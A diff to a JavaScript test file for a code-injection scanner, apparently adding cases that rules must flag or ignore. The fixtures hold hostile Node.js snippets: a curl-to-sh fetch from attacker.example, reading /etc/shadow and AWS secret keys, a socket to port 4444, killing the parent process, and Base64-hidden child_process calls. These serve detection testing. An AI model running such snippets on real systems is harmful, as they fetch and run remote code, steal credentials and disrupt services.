@@ -54,7 +54,8 @@ describe('js_injection', () => {
       "res.end(require('fs').readFileSync('/etc/shadow'))", "import('child_process').then(function (m) { m.exec('id') })",
       "module._load('worker_threads')", "var cp = 'child_process'; require(cp); cp2.execSync('uname -a')",
       'require.main.require("net").connect(4444, "10.0.0.1")', "fs.writeFileSync('/tmp/x.js', 'pwn')",
-      "child_process.exec('curl http://attacker.example/x | sh')",
+      "child_process.exec('curl http://attacker.example/x | sh')", "lib('child_process').execSync('id')",
+      'require.cache[require.resolve("./auth")] = null', 'require.extensions', ';module.exports = function () { return 1 }',
     ]);
   });
 
@@ -63,6 +64,8 @@ describe('js_injection', () => {
       'process.mainModule.constructor', "process['mainModule']", "globalThis.process.binding('spawn_sync')",
       '1;process.kill(process.ppid)', "';process.exit(0)//", 'process.env', 'JSON.stringify(process.env)',
       "process['env']['AWS_SECRET_ACCESS_KEY']", 'process[req.body.key]', 'global.process',
+      'global["process"]["mainModule"]', "this['process'].env", 'root.process.mainModule', 'process.cwd()', ';process.argv',
+      'process.constructor',
     ]);
   });
 
@@ -91,12 +94,15 @@ describe('js_injection', () => {
   });
 
   it('finds infinite loops that hang the event loop', () => {
-    assertRule('js-006', ['while(1);', 'while (!0) {}', 'while(!"x");', 'for(;;);', 'while(!false)', 'while (new Date) ;']);
+    assertRule('js-006', [
+      'while(1);', 'while (!0) {}', 'while(!"x");', 'for(;;);', 'while(!false)', 'while (new Date) ;', 'do{}while(1)',
+      'x=1;while(true)',
+    ]);
   });
 
   it('finds code spelled in JavaScript escapes or inside escaped Base64', () => {
     assertRule('js-007', [
-      "\\u0072\\u0065quire('child_process')", '\\x65val("1")', 'c\\u006fnsole.log(document.domain)',
+      "\\u0072\\u0065quire('fs')", '\\x65val("1")', 'c\\u006fnsole.log(document.domain)',
       // \u-escaped Base64 of require("child_process").exec("id")
       '\\u0063mVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=',
     ]);
@@ -116,7 +122,8 @@ describe('js_injection', () => {
   it('reports code shapes that are also how people write about JavaScript on level 2 only', () => {
     assertRule('js-008', [
       'console.info(1)', 'function() {', 'how to read process.env in node', 'process.env.NODE_ENV not working',
-      'while(true)', "the Function('a', 'b') constructor", '(function(w,d){})(window,document)',
+      'while(true)', "the Function('a', 'b') constructor", '(function(w,d){})(window,document)', 'the process.main loop',
+      'require.cache explained', 'module.exports = { handler }', 'this.constructor', 'What does process.cwd() return?',
       '```js\nconst cp = require("child_process");\ncp.exec("ls");\n```',
     ]);
     assertQuiet(['console.info(1)', 'function() {', 'how to read process.env in node', 'while(true)',
@@ -133,7 +140,8 @@ describe('js_injection', () => {
       'require.js vs webpack', "const x = require('lodash')", "import('./page.js')", 'constructor salary',
       '{"function":"search","constructor":"Acme Corp"}', 'This process[1] is done', 'global.fetch is undefined',
       'C:\\Users\\jane\\AppData\\Local\\Temp\\process.exe', 'price $5:constructor grade', 'Call setTimeout(fn, 0) to defer',
-      'for (;;) vs while', 'Why is eval() considered harmful?', 'Learn fs.readFileSync(path)',
+      'for (;;) vs while', 'Why is eval() considered harmful?', 'Learn fs.readFileSync(path)', 'process.maintenance window',
+      'our process, globally', 'module.exports is an object', 'maintenance process. global warming',
     ]);
     assertQuiet(['See `process.exit(1)` docs', 'while (true) loop in java', 'vm.runInNewContext docs']);
   });
